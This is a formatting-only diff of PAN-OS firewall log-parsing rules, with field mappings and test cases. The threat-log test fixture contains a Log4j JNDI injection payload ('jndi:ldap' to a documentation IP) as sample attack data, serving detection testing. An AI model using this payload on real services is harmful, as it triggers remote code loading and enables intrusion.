@@ -41,61 +41,61 @@ rule "panos-traffic" {
   RE
   extract          = "csv"
   columns = [
-      "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "src", "dst",
-      "natsrc", "natdst", "rule", "srcuser", "dstuser", "app", "vsys", "from", "to", "inbound_if",
-      "outbound_if", "logset", "_", "sessionid", "repeatcnt", "sport", "dport", "natsport",
-      "natdport", "flags", "proto", "action", "bytes", "bytes_sent", "bytes_received", "packets",
-      "start", "elapsed", "category", "_", "seqno", "actionflags", "srcloc", "dstloc", "_",
-      "pkts_sent", "pkts_received", "session_end_reason", "dg_hier_level_1", "dg_hier_level_2",
-      "dg_hier_level_3", "dg_hier_level_4", "vsys_name", "device_name", "action_source",
-      "src_uuid", "dst_uuid", "tunnelid_imsi", "monitortag_imei", "parent_session_id",
-      "parent_start_time", "tunnel", "assoc_id", "chunks", "chunks_sent", "chunks_received",
-      "rule_uuid", "http2_connection", "appflap_count", "policy_id", "link_switches",
-      "sdwan_cluster", "sdwan_device_type", "sdwan_cluster_type", "sdwan_site",
-      "dynusergroup_name", "xff_ip"
-    ]
-  classification   = "Network Traffic"
-  common_event     = "Firewall Session"
-  risk             = 1
+    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "src", "dst",
+    "natsrc", "natdst", "rule", "srcuser", "dstuser", "app", "vsys", "from", "to", "inbound_if",
+    "outbound_if", "logset", "_", "sessionid", "repeatcnt", "sport", "dport", "natsport",
+    "natdport", "flags", "proto", "action", "bytes", "bytes_sent", "bytes_received", "packets",
+    "start", "elapsed", "category", "_", "seqno", "actionflags", "srcloc", "dstloc", "_",
+    "pkts_sent", "pkts_received", "session_end_reason", "dg_hier_level_1", "dg_hier_level_2",
+    "dg_hier_level_3", "dg_hier_level_4", "vsys_name", "device_name", "action_source",
+    "src_uuid", "dst_uuid", "tunnelid_imsi", "monitortag_imei", "parent_session_id",
+    "parent_start_time", "tunnel", "assoc_id", "chunks", "chunks_sent", "chunks_received",
+    "rule_uuid", "http2_connection", "appflap_count", "policy_id", "link_switches",
+    "sdwan_cluster", "sdwan_device_type", "sdwan_cluster_type", "sdwan_site",
+    "dynusergroup_name", "xff_ip"
+  ]
+  classification = "Network Traffic"
+  common_event   = "Firewall Session"
+  risk           = 1
   map = {
-    "observer.serial_number" = ["csv.serial"]
-    "observer.hostname"      = ["csv.device_name"]
-    "panw.panos.type"        = ["csv.type"]
-    "panw.panos.sub_type"    = ["csv.subtype"]
-    "panw.panos.virtual_sys" = ["csv.vsys"]
-    sip                                = ["csv.src"]
-    dip                                = ["csv.dst"]
-    snatip                             = ["csv.natsrc"]
-    dnatip                             = ["csv.natdst"]
-    sport                              = ["csv.sport"]
-    dport                              = ["csv.dport"]
-    snatport                           = ["csv.natsport"]
-    dnatport                           = ["csv.natdport"]
-    iana_transport                     = ["csv.proto"]
-    net_protocol                       = ["csv.app"]
-    "network.application"              = ["csv.app"]
-    "rule.name"                        = ["csv.rule"]
-    "rule.uuid"                        = ["csv.rule_uuid"]
-    login                              = ["csv.srcuser"]
-    "source.user.name"                 = ["csv.srcuser"]
-    "destination.user.name"            = ["csv.dstuser"]
-    "observer.ingress.zone"            = ["csv.from"]
-    "observer.egress.zone"             = ["csv.to"]
-    "observer.ingress.interface.name"  = ["csv.inbound_if"]
-    "observer.egress.interface.name"   = ["csv.outbound_if"]
-    "panw.panos.flow_id"               = ["csv.sessionid"]
-    "panw.panos.action"                = ["csv.action"]
-    "event.action"                     = ["csv.action"]
-    bytes                              = ["csv.bytes"]
-    src_bytes                          = ["csv.bytes_sent"]
-    dst_bytes                          = ["csv.bytes_received"]
-    net_packets                        = ["csv.packets"]
-    src_packets                        = ["csv.pkts_sent"]
-    dst_packets                        = ["csv.pkts_received"]
-    "panw.panos.endreason"             = ["csv.session_end_reason"]
-    "panw.panos.url.category"          = ["csv.category"]
-    "panw.panos.source.location"       = ["csv.srcloc"]
-    "panw.panos.destination.location"  = ["csv.dstloc"]
+    "observer.serial_number"          = ["csv.serial"]
+    "observer.hostname"               = ["csv.device_name"]
+    "panw.panos.type"                 = ["csv.type"]
+    "panw.panos.sub_type"             = ["csv.subtype"]
+    "panw.panos.virtual_sys"          = ["csv.vsys"]
+    sip                               = ["csv.src"]
+    dip                               = ["csv.dst"]
+    snatip                            = ["csv.natsrc"]
+    dnatip                            = ["csv.natdst"]
+    sport                             = ["csv.sport"]
+    dport                             = ["csv.dport"]
+    snatport                          = ["csv.natsport"]
+    dnatport                          = ["csv.natdport"]
+    iana_transport                    = ["csv.proto"]
+    net_protocol                      = ["csv.app"]
+    "network.application"             = ["csv.app"]
+    "rule.name"                       = ["csv.rule"]
+    "rule.uuid"                       = ["csv.rule_uuid"]
+    login                             = ["csv.srcuser"]
+    "source.user.name"                = ["csv.srcuser"]
+    "destination.user.name"           = ["csv.dstuser"]
+    "observer.ingress.zone"           = ["csv.from"]
+    "observer.egress.zone"            = ["csv.to"]
+    "observer.ingress.interface.name" = ["csv.inbound_if"]
+    "observer.egress.interface.name"  = ["csv.outbound_if"]
+    "panw.panos.flow_id"              = ["csv.sessionid"]
+    "panw.panos.action"               = ["csv.action"]
+    "event.action"                    = ["csv.action"]
+    bytes                             = ["csv.bytes"]
+    src_bytes                         = ["csv.bytes_sent"]
+    dst_bytes                         = ["csv.bytes_received"]
+    net_packets                       = ["csv.packets"]
+    src_packets                       = ["csv.pkts_sent"]
+    dst_packets                       = ["csv.pkts_received"]
+    "panw.panos.endreason"            = ["csv.session_end_reason"]
+    "panw.panos.url.category"         = ["csv.category"]
+    "panw.panos.source.location"      = ["csv.srcloc"]
+    "panw.panos.destination.location" = ["csv.dstloc"]
   }
   fields = {
     "event.kind"     = "event"
@@ -126,14 +126,14 @@ rule "panos-traffic" {
   }
 
   test {
-    log    = <<-LOG
+    log = <<-LOG
       <14>Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,TRAFFIC,end,,2024/03/13 12:00:05,192.0.2.10,198.51.100.20,203.0.113.5,0.0.0.0,allow-web,example\alice,,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,default,,33760,1,51514,443,61514,0,0x400053,tcp,allow,10563,2142,8421,26,2024/03/13 11:59:52,13,computer-and-internet-info,,7123456789,0x0,192.0.2.0-192.0.2.255,US,,14,12,tcp-fin,0,0,0,0,,PA-EDGE1,from-policy,,,,,,,N/A,,,,,6b6b3c1a-0000-0000-0000-000000000001,0,,0,,,,,,,
     LOG
     expect = {
-      sub_rule = "end", sip = "192.0.2.10", dip = "198.51.100.20", snatip = "203.0.113.5", sport = "51514", dport = "443"
-      "network.transport" = "tcp", "rule.name" = "allow-web", "source.bytes" = "2142", "destination.bytes" = "8421"
+      sub_rule                = "end", sip = "192.0.2.10", dip = "198.51.100.20", snatip = "203.0.113.5", sport = "51514", dport = "443"
+      "network.transport"     = "tcp", "rule.name" = "allow-web", "source.bytes" = "2142", "destination.bytes" = "8421"
       "observer.ingress.zone" = "trust", "panw.panos.endreason" = "tcp-fin", "observer.serial_number" = "012801000001"
-      "observer.hostname" = "PA-EDGE1", "@timestamp" = "2024-03-13T12:00:05Z", "csv.device_name" = "PA-EDGE1", "source.user.name" = "example\\alice"
+      "observer.hostname"     = "PA-EDGE1", "@timestamp" = "2024-03-13T12:00:05Z", "csv.device_name" = "PA-EDGE1", "source.user.name" = "example\\alice"
     }
   }
 
@@ -157,50 +157,50 @@ rule "panos-threat" {
   RE
   extract          = "csv"
   columns = [
-      "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "src", "dst",
-      "natsrc", "natdst", "rule", "srcuser", "dstuser", "app", "vsys", "from", "to", "inbound_if",
-      "outbound_if", "logset", "_", "sessionid", "repeatcnt", "sport", "dport", "natsport",
-      "natdport", "flags", "proto", "action", "misc", "threatid", "category", "severity",
-      "direction", "seqno", "actionflags", "srcloc", "dstloc", "_", "contenttype", "pcap_id",
-      "filedigest", "cloud", "url_idx", "user_agent", "filetype", "xff", "referer", "sender",
-      "subject", "recipient", "reportid", "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3",
-      "dg_hier_level_4", "vsys_name", "device_name", "_", "src_uuid", "dst_uuid", "http_method",
-      "tunnelid_imsi", "monitortag_imei", "parent_session_id", "parent_start_time", "tunnel",
-      "thr_category", "contentver", "_", "assoc_id", "ppid", "http_headers", "url_category_list",
-      "rule_uuid", "http2_connection", "dynusergroup_name", "xff_ip"
-    ]
-  classification   = "Other Security"
-  common_event     = "Threat Detected"
-  risk             = 5
+    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "src", "dst",
+    "natsrc", "natdst", "rule", "srcuser", "dstuser", "app", "vsys", "from", "to", "inbound_if",
+    "outbound_if", "logset", "_", "sessionid", "repeatcnt", "sport", "dport", "natsport",
+    "natdport", "flags", "proto", "action", "misc", "threatid", "category", "severity",
+    "direction", "seqno", "actionflags", "srcloc", "dstloc", "_", "contenttype", "pcap_id",
+    "filedigest", "cloud", "url_idx", "user_agent", "filetype", "xff", "referer", "sender",
+    "subject", "recipient", "reportid", "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3",
+    "dg_hier_level_4", "vsys_name", "device_name", "_", "src_uuid", "dst_uuid", "http_method",
+    "tunnelid_imsi", "monitortag_imei", "parent_session_id", "parent_start_time", "tunnel",
+    "thr_category", "contentver", "_", "assoc_id", "ppid", "http_headers", "url_category_list",
+    "rule_uuid", "http2_connection", "dynusergroup_name", "xff_ip"
+  ]
+  classification = "Other Security"
+  common_event   = "Threat Detected"
+  risk           = 5
   map = {
-    "observer.serial_number" = ["csv.serial"]
-    "observer.hostname"      = ["csv.device_name"]
-    "panw.panos.type"        = ["csv.type"]
-    "panw.panos.sub_type"    = ["csv.subtype"]
-    "panw.panos.virtual_sys" = ["csv.vsys"]
-    sip                                = ["csv.src"]
-    dip                                = ["csv.dst"]
-    snatip                             = ["csv.natsrc"]
-    dnatip                             = ["csv.natdst"]
-    sport                              = ["csv.sport"]
-    dport                              = ["csv.dport"]
-    snatport                           = ["csv.natsport"]
-    dnatport                           = ["csv.natdport"]
-    iana_transport                     = ["csv.proto"]
-    net_protocol                       = ["csv.app"]
-    "network.application"              = ["csv.app"]
-    "rule.name"                        = ["csv.rule"]
-    "rule.uuid"                        = ["csv.rule_uuid"]
-    login                              = ["csv.srcuser"]
-    "source.user.name"                 = ["csv.srcuser"]
-    "destination.user.name"            = ["csv.dstuser"]
-    "observer.ingress.zone"            = ["csv.from"]
-    "observer.egress.zone"             = ["csv.to"]
-    "observer.ingress.interface.name"  = ["csv.inbound_if"]
-    "observer.egress.interface.name"   = ["csv.outbound_if"]
-    "panw.panos.flow_id"               = ["csv.sessionid"]
-    "panw.panos.action"                = ["csv.action"]
-    "event.action"                     = ["csv.action"]
+    "observer.serial_number"          = ["csv.serial"]
+    "observer.hostname"               = ["csv.device_name"]
+    "panw.panos.type"                 = ["csv.type"]
+    "panw.panos.sub_type"             = ["csv.subtype"]
+    "panw.panos.virtual_sys"          = ["csv.vsys"]
+    sip                               = ["csv.src"]
+    dip                               = ["csv.dst"]
+    snatip                            = ["csv.natsrc"]
+    dnatip                            = ["csv.natdst"]
+    sport                             = ["csv.sport"]
+    dport                             = ["csv.dport"]
+    snatport                          = ["csv.natsport"]
+    dnatport                          = ["csv.natdport"]
+    iana_transport                    = ["csv.proto"]
+    net_protocol                      = ["csv.app"]
+    "network.application"             = ["csv.app"]
+    "rule.name"                       = ["csv.rule"]
+    "rule.uuid"                       = ["csv.rule_uuid"]
+    login                             = ["csv.srcuser"]
+    "source.user.name"                = ["csv.srcuser"]
+    "destination.user.name"           = ["csv.dstuser"]
+    "observer.ingress.zone"           = ["csv.from"]
+    "observer.egress.zone"            = ["csv.to"]
+    "observer.ingress.interface.name" = ["csv.inbound_if"]
+    "observer.egress.interface.name"  = ["csv.outbound_if"]
+    "panw.panos.flow_id"              = ["csv.sessionid"]
+    "panw.panos.action"               = ["csv.action"]
+    "event.action"                    = ["csv.action"]
     "panw.panos.threat.name"          = ["csv.threatid"]
     "panw.panos.threat.category"      = ["csv.thr_category"]
     "panw.panos.url.category"         = ["csv.category"]
@@ -261,13 +261,13 @@ rule "panos-threat" {
   }
 
   test {
-    log    = <<-LOG
+    log = <<-LOG
       <14>Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,THREAT,vulnerability,,2024/03/13 12:00:05,203.0.113.66,192.0.2.80,0.0.0.0,0.0.0.0,dmz-in,,,web-browsing,vsys1,untrust,dmz,ethernet1/1,ethernet1/3,default,,44001,1,41000,8080,0,0,0x2000,tcp,reset-both,"app.example.com/api?x=$${jndi:ldap://203.0.113.66/a}",Apache Log4j Remote Code Execution Vulnerability(91991),any,critical,client-to-server,7123456789,0x0,US,192.0.2.0-192.0.2.255,,,0,,,0,"Mozilla/5.0 (X11; Linux x86_64)",,,,,,,0,0,0,0,0,,PA-EDGE1,,,,get,,,,,N/A,code-execution,AppThreat-8700-7900,,,,,,6b6b3c1a-0000-0000-0000-000000000002,,,
     LOG
     expect = {
-      sub_rule = "vulnerability", classification = "Attack", sip = "203.0.113.66", dport = "8080", "event.action" = "reset-both"
+      sub_rule                 = "vulnerability", classification = "Attack", sip = "203.0.113.66", dport = "8080", "event.action" = "reset-both"
       "panw.panos.threat.name" = "Apache Log4j Remote Code Execution Vulnerability(91991)", "log.level" = "critical"
-      "panw.panos.misc" = "app.example.com/api?x=$${jndi:ldap://203.0.113.66/a}", "user_agent.original" = "Mozilla/5.0 (X11; Linux x86_64)"
+      "panw.panos.misc"        = "app.example.com/api?x=$${jndi:ldap://203.0.113.66/a}", "user_agent.original" = "Mozilla/5.0 (X11; Linux x86_64)"
     }
   }
 
@@ -291,25 +291,25 @@ rule "panos-system" {
   RE
   extract          = "csv"
   columns = [
-      "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "vsys", "eventid",
-      "object", "_", "_", "module", "severity", "opaque", "seqno", "actionflags",
-      "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3", "dg_hier_level_4", "vsys_name",
-      "device_name", "_", "_", "high_res_timestamp"
-    ]
-  classification   = "Information"
-  common_event     = "Device Event"
-  risk             = 1
+    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "vsys", "eventid",
+    "object", "_", "_", "module", "severity", "opaque", "seqno", "actionflags",
+    "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3", "dg_hier_level_4", "vsys_name",
+    "device_name", "_", "_", "high_res_timestamp"
+  ]
+  classification = "Information"
+  common_event   = "Device Event"
+  risk           = 1
   map = {
     "observer.serial_number" = ["csv.serial"]
     "observer.hostname"      = ["csv.device_name"]
     "panw.panos.type"        = ["csv.type"]
     "panw.panos.sub_type"    = ["csv.subtype"]
     "panw.panos.virtual_sys" = ["csv.vsys"]
-    "event.code"          = ["csv.eventid"]
-    "panw.panos.object"   = ["csv.object"]
-    "panw.panos.module"   = ["csv.module"]
-    "log.level"           = ["csv.severity"]
-    "event.reason"        = ["csv.opaque"]
+    "event.code"             = ["csv.eventid"]
+    "panw.panos.object"      = ["csv.object"]
+    "panw.panos.module"      = ["csv.module"]
+    "log.level"              = ["csv.severity"]
+    "event.reason"           = ["csv.opaque"]
   }
   fields = { "event.kind" = "event", "observer.type" = "firewall" }
 
@@ -362,29 +362,29 @@ rule "panos-config" {
   RE
   extract          = "csv"
   columns = [
-      "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "host", "vsys",
-      "cmd", "admin", "client", "result", "path", "before_change_detail", "after_change_detail",
-      "seqno", "actionflags", "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3",
-      "dg_hier_level_4", "vsys_name", "device_name", "dg_id", "comment", "_",
-      "high_res_timestamp"
-    ]
-  classification   = "Policy"
-  common_event     = "Configuration Changed"
-  risk             = 3
+    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "host", "vsys",
+    "cmd", "admin", "client", "result", "path", "before_change_detail", "after_change_detail",
+    "seqno", "actionflags", "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3",
+    "dg_hier_level_4", "vsys_name", "device_name", "dg_id", "comment", "_",
+    "high_res_timestamp"
+  ]
+  classification = "Policy"
+  common_event   = "Configuration Changed"
+  risk           = 3
   map = {
-    "observer.serial_number" = ["csv.serial"]
-    "observer.hostname"      = ["csv.device_name"]
-    "panw.panos.type"        = ["csv.type"]
-    "panw.panos.sub_type"    = ["csv.subtype"]
-    "panw.panos.virtual_sys" = ["csv.vsys"]
-    shost                     = ["csv.host"]
-    login                     = ["csv.admin"]
-    "event.action"            = ["csv.cmd"]
-    "panw.panos.client"       = ["csv.client"]
-    "panw.panos.result"       = ["csv.result"]
-    "panw.panos.config.path"  = ["csv.path"]
+    "observer.serial_number"   = ["csv.serial"]
+    "observer.hostname"        = ["csv.device_name"]
+    "panw.panos.type"          = ["csv.type"]
+    "panw.panos.sub_type"      = ["csv.subtype"]
+    "panw.panos.virtual_sys"   = ["csv.vsys"]
+    shost                      = ["csv.host"]
+    login                      = ["csv.admin"]
+    "event.action"             = ["csv.cmd"]
+    "panw.panos.client"        = ["csv.client"]
+    "panw.panos.result"        = ["csv.result"]
+    "panw.panos.config.path"   = ["csv.path"]
     "panw.panos.config.before" = ["csv.before_change_detail"]
-    "panw.panos.config.after" = ["csv.after_change_detail"]
+    "panw.panos.config.after"  = ["csv.after_change_detail"]
   }
   fields = { "event.kind" = "event", "event.category" = ["configuration"], "event.type" = ["change"], "observer.type" = "firewall" }
 
@@ -414,40 +414,40 @@ rule "panos-globalprotect" {
   RE
   extract          = "csv"
   columns = [
-      "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "vsys", "eventid",
-      "stage", "auth_method", "tunnel_type", "srcuser", "srcregion", "machinename", "public_ip",
-      "public_ipv6", "private_ip", "private_ipv6", "hostid", "serialnumber", "client_ver",
-      "client_os", "client_os_ver", "repeatcnt", "reason", "error", "opaque", "status",
-      "location", "login_duration", "connect_method", "error_code", "portal", "seqno",
-      "actionflags", "high_res_timestamp", "selection_type", "response_time", "priority",
-      "attempted_gateways", "gateway", "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3",
-      "dg_hier_level_4", "vsys_name", "device_name", "vsys_id"
-    ]
-  classification   = "Information"
-  common_event     = "VPN Event"
-  risk             = 1
+    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "vsys", "eventid",
+    "stage", "auth_method", "tunnel_type", "srcuser", "srcregion", "machinename", "public_ip",
+    "public_ipv6", "private_ip", "private_ipv6", "hostid", "serialnumber", "client_ver",
+    "client_os", "client_os_ver", "repeatcnt", "reason", "error", "opaque", "status",
+    "location", "login_duration", "connect_method", "error_code", "portal", "seqno",
+    "actionflags", "high_res_timestamp", "selection_type", "response_time", "priority",
+    "attempted_gateways", "gateway", "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3",
+    "dg_hier_level_4", "vsys_name", "device_name", "vsys_id"
+  ]
+  classification = "Information"
+  common_event   = "VPN Event"
+  risk           = 1
   map = {
-    "observer.serial_number" = ["csv.serial"]
-    "observer.hostname"      = ["csv.device_name"]
-    "panw.panos.type"        = ["csv.type"]
-    "panw.panos.sub_type"    = ["csv.subtype"]
-    "panw.panos.virtual_sys" = ["csv.vsys"]
-    "event.code"                   = ["csv.eventid"]
+    "observer.serial_number"         = ["csv.serial"]
+    "observer.hostname"              = ["csv.device_name"]
+    "panw.panos.type"                = ["csv.type"]
+    "panw.panos.sub_type"            = ["csv.subtype"]
+    "panw.panos.virtual_sys"         = ["csv.vsys"]
+    "event.code"                     = ["csv.eventid"]
     "panw.panos.globalprotect.stage" = ["csv.stage"]
-    "panw.panos.auth_method"       = ["csv.auth_method"]
-    login                          = ["csv.srcuser"]
-    "source.user.name"             = ["csv.srcuser"]
-    sip                            = ["csv.public_ip"]
-    snatip                         = ["csv.private_ip"]
-    "host.name"                    = ["csv.machinename"]
-    "source.geo.country_iso_code"  = ["csv.srcregion"]
-    "event.reason"                 = ["csv.error", "csv.reason", "csv.opaque"]
-    "panw.panos.status"            = ["csv.status"]
-    "panw.panos.client_os"         = ["csv.client_os"]
-    "panw.panos.client_version"    = ["csv.client_ver"]
-    "panw.panos.portal"            = ["csv.portal"]
-    "panw.panos.gateway"           = ["csv.gateway"]
-    "event.action"                 = ["csv.eventid"]
+    "panw.panos.auth_method"         = ["csv.auth_method"]
+    login                            = ["csv.srcuser"]
+    "source.user.name"               = ["csv.srcuser"]
+    sip                              = ["csv.public_ip"]
+    snatip                           = ["csv.private_ip"]
+    "host.name"                      = ["csv.machinename"]
+    "source.geo.country_iso_code"    = ["csv.srcregion"]
+    "event.reason"                   = ["csv.error", "csv.reason", "csv.opaque"]
+    "panw.panos.status"              = ["csv.status"]
+    "panw.panos.client_os"           = ["csv.client_os"]
+    "panw.panos.client_version"      = ["csv.client_ver"]
+    "panw.panos.portal"              = ["csv.portal"]
+    "panw.panos.gateway"             = ["csv.gateway"]
+    "event.action"                   = ["csv.eventid"]
   }
   fields = { "event.kind" = "event", "event.category" = ["network", "authentication"], "observer.type" = "vpn" }
 
@@ -494,10 +494,10 @@ rule "panos-log" {
   RE
   extract          = "csv"
   columns = [
-      "_", "receive_time", "serial", "type", "subtype", "_", "time_generated"
-    ]
-  classification   = "Information"
-  common_event     = "Device Event"
+    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated"
+  ]
+  classification = "Information"
+  common_event   = "Device Event"
   map = {
     "observer.serial_number" = ["csv.serial"]
     "panw.panos.type"        = ["csv.type"]
